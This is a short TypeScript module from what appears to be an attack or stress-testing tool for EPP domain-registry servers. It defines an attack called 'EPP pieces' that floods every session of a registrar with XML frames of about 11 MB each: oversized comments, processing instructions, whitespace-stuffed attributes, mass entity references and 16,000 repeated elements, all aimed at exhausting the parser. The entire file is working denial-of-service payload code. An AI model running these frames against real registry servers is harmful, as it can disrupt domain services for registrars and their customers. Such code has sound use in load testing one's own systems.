import { envelope } from '../epp-frames.ts';
import type { Attack } from './attack.ts';
import { sendInSessions } from './epp-sessions.ts';

const MEGABYTES = 11;
const text = (piece: string): string => piece.repeat((MEGABYTES * 1024 * 1024) / piece.length);

/** Frames of 11 MB in all sessions of a registrar: comments, instructions, attributes and texts of millions of pieces. */
export const eppPieces: Attack = {
  name: 'EPP pieces',
  start: (target) =>
    sendInSessions(target, [
      envelope({ body: `<!--${text('- ')}--><info/>` }),
      envelope({ body: `<?a ${text('? ')}?><info/>` }),
      envelope({ body: `<info a="${text('\t\n')}"/>` }),
      envelope({ body: `<info>${text('&lt;')}</info>` }),
      envelope({ body: `<info>${text(']\r\n')}</info>` }),
      envelope({ body: `<login>${'<a/>'.repeat(16_000)}</login>` }),
    ]),
};
